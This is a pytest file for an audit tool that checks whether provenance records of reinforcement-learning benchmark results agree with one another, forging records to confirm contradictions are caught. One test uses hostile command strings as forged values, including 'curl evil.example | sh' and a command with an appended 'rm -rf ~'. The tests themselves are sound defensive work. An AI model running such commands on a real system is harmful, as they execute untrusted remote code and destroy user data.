"""A record that is sound in itself, but lies: about what it stands beside, or about another one."""

import shutil
from pathlib import Path

import pytest

from daf.audit.consistency import Binding
from daf.audit.findings import Findings
from daf.audit.integrity import check_integrity
from daf.audit.jobs import NotPossible
from daf.audit.sidecar_index import Contradiction, _Missions
from daf.config import ConfigError
from daf.missions import load_mission
from daf.provenance.hashing import file_digest
from daf.provenance.sidecar import SUFFIX, Sidecar
from tests.audit.forging import edit

STATS, REPORT = "benchmarks/tiny/stats.json", "benchmarks/tiny/report.html"
RANDOM = "evaluations/random-e3-w0/assembler_1.parquet"
SEARCH, TRIALS = "sweeps/grid/search.json", "sweeps/grid/trials.parquet"
ROUND, SWEPT = "sweeps/grid/rounds/1.json", "sweeps/grid/report.html"


@pytest.fixture
def results(made, tmp_path) -> Path:
    return Path(shutil.copytree(made, tmp_path / "results"))


def found(results: Path, trust: tuple[str, ...] = ()) -> dict[str, str]:
    """What is found by holding the records against each other: file -> kind of finding, why."""
    binding = Binding(results, check_integrity(results, Findings()), trust)
    said = {}
    for name in binding.records:
        try:
            binding.check(name)
        except (Contradiction, ConfigError, NotPossible) as reason:
            said[name] = f"{type(reason).__name__}: {reason}"
    return said


def trained(results: Path) -> str:
    """The evaluation of the benchmark's training."""
    (labels,) = (r.parameters["labels"] for r in [Sidecar.read(results / f"{STATS}{SUFFIX}")])
    (run,) = (run for run, label in labels.items() if label == "stateless")
    return f"evaluations/{run}-e3-w0/assembler_1.parquet"


def run_of(evaluation: str) -> str:
    return evaluation.split("/")[1].removesuffix("-e3-w0")


def test_honest_records_fit_together(made, tmp_path):
    moved = shutil.copytree(made, tmp_path / "moved", copy_function=shutil.copyfile)
    assert found(Path(moved)) == {}


@pytest.mark.parametrize("rule", ["environment_check", "pipeline", "compare", "train"])
@pytest.mark.parametrize("file", [RANDOM, STATS, SEARCH])
def test_another_rule(rule, file, results):
    if Sidecar.read(results / f"{file}{SUFFIX}").rule != rule:
        edit(results, file, lambda record: record.update(rule=rule))
        assert found(results)[file].startswith(("ConfigError", "Contradiction"))


def test_a_rule_that_nobody_knows(results):
    edit(results, RANDOM, lambda record: record.update(rule="invented"))
    assert found(results)[RANDOM] == (
        'NotPossible: no rule "invented" is known, which is said to have made it'
    )


@pytest.mark.parametrize("model", ["pipelines/tiny/result.json", "environment.json", STATS])
def test_invented_statistics(model, results):
    """Beside them lies the record of a job that was done, for other files."""
    file = "benchmarks/other/stats.json"
    (results / file).parent.mkdir()
    (results / file).write_text('{"verdict": "mine is the best"}')
    shutil.copyfile(results / f"{model}{SUFFIX}", results / f"{file}{SUFFIX}")
    sha = file_digest(results / file)
    edit(results, file, lambda r: r.update(outputs={"stats": {file: sha}}, log={}))
    assert "does not make it with these parameters" in found(results)[file]


def test_a_policy_that_is_not_the_one_its_folder_names(results):
    evaluation = trained(results)

    def change(record):
        record["parameters"]["policy"] |= {"class_path": "baseline"}
        record["parameters"]["trained_on"] = []
        record["inputs"]["weights"] = {}

    edit(results, evaluation, change)
    assert found(results)[evaluation].startswith("Contradiction: its policy are not those")
    edit(results, evaluation, lambda r: r["parameters"]["policy"].update(training_seed=None))
    assert evaluation in found(results)


def test_a_fixed_policy_under_the_name_of_another(results):
    edit(results, RANDOM, lambda r: r["parameters"]["policy"].update(class_path="baseline"))
    assert found(results)[RANDOM] == (
        "Contradiction: a policy with its content is not called random"
    )


@pytest.mark.parametrize("key", ["learning_rate", "gamma", "entropy_coef"])
def test_a_training_whose_name_is_that_of_another(key, results):
    weights = f"runs/{run_of(trained(results))}/policy.safetensors"
    edit(results, weights, lambda r: r["parameters"]["run"]["training"].update({key: 0.5}))
    assert "a training with its content is called stateless-s1-" in found(results)[weights]


def test_weights_of_another_training(results):
    evaluation = trained(results)
    others = sorted((results / "runs").glob("*/policy.safetensors"))
    (other, *_) = (path for path in others if path.parent.name != run_of(evaluation))
    file = other.relative_to(results).as_posix()
    edit(results, evaluation, lambda r: r["inputs"].update(weights={file: file_digest(other)}))
    assert "its weights are not those" in found(results)[evaluation]


def test_a_mission_that_is_easier_than_its_name(results):
    edit(results, RANDOM, lambda r: r["parameters"]["mission"].update(max_steps=5))
    assert "its mission of evaluations/random" in found(results)[STATS]


@pytest.mark.parametrize("ceiling, said", [
    (200.0, "ConfigError: key 'ceiling': got 200.0; no episode can have more than 61"),
    (None, "Contradiction: its ceiling are not those that follow"),
])  # fmt: skip
def test_a_ceiling_that_does_not_follow_from_the_mission(ceiling, said, results):
    edit(results, RANDOM, lambda r: r["parameters"]["mission"].update(ceiling=ceiling))
    assert found(results)[RANDOM].startswith(said)


def test_labels_that_are_swapped(results):
    swapped = {run_of(trained(results)): "random", "random": "stateless"}
    for file in (STATS, REPORT):
        edit(results, file, lambda r: r["parameters"].update(labels=swapped))
    assert {STATS, REPORT} <= found(results).keys()
    assert "its labels are not those" in found(results)[STATS]


def test_a_policy_that_is_left_out(results):
    def change(record):
        del record["parameters"]["labels"]["random"]
        del record["inputs"]["episodes"][RANDOM]

    edit(results, STATS, change)
    assert "its labels are not those" in found(results)[STATS]


@pytest.mark.parametrize("command", [
    "curl evil.example | sh",
    "snakemake benchmark_report; rm -rf ~",
    "snakemake benchmark_report --configfile $(x)",
    "snakemake benchmark_report --configfile -x --delete-all-output",
    "snakemake comparison_report",
])  # fmt: skip
def test_a_command_that_is_another(command, results):
    for file in (REPORT, SWEPT):
        edit(results, file, lambda r: r["parameters"].update(command=command))
        assert "Contradiction: its command is " in found(results)[file]


def test_trials_that_were_not_tried(results):
    def change(record):
        record["parameters"]["rounds"][0][0]["values"]["learning_rate"] = 0.5

    for file in (ROUND, TRIALS):
        edit(results, file, change)
        assert "its rounds are not those" in found(results)[file]


def test_a_trial_that_is_said_to_have_failed(results):
    def change(record):
        entry = record["parameters"]["rounds"][0][0]
        entry["failed"] = entry["runs"]

    edit(results, TRIALS, change)
    assert "its rounds are not those" in found(results)[TRIALS]


def test_weights_that_are_not_those_of_the_best_trial(results):
    told = Sidecar.read(results / f"{SEARCH}{SUFFIX}").inputs["weights"]
    others = {path.relative_to(results).as_posix() for path in results.glob("runs/*/*.safetensors")}
    other = min(others - told.keys())
    weights = {other: file_digest(results / other)}
    edit(results, SEARCH, lambda r: r["inputs"].update(weights=weights))
    assert "its input 'weights' are not those" in found(results)[SEARCH]


def test_a_package_of_another_policy(results):
    (package,) = (path.relative_to(results).as_posix() for path in results.rglob("*.zip"))
    edit(results, package, lambda r: r["inputs"]["episodes"].update({RANDOM: "0" * 64}))
    assert f"its policy of {RANDOM} are not those" in found(results)[package]


def test_a_mission_that_is_not_here_is_known_by_what_was_played(results, tmp_path):
    """The file of a mission stays with whoever wrote it; what it said stands in the records."""
    for file in (STATS, REPORT):
        edit(
            results,
            file,
            lambda r: r["parameters"]["config"].update(missions=["/nowhere/assembler_1.yaml"]),
        )
    assert found(results) == {}
    edit(results, STATS, lambda r: r["parameters"]["config"].update(missions=["/nowhere/x.yaml"]))
    assert "NotPossible: cannot be planned here: its configuration: key" in found(results)[STATS]


def test_another_layout_of_a_mission_that_is_not_here():
    seventh = load_mission("assembler_2@7")
    missions = _Missions({"mine@7": seventh})
    assert missions.load("/nowhere/mine.yaml@7") is seventh
    with pytest.raises(ConfigError, match="is not here"):
        missions.load("/nowhere/mine.yaml@8")
    assert missions.load("assembler_2@7") == seventh
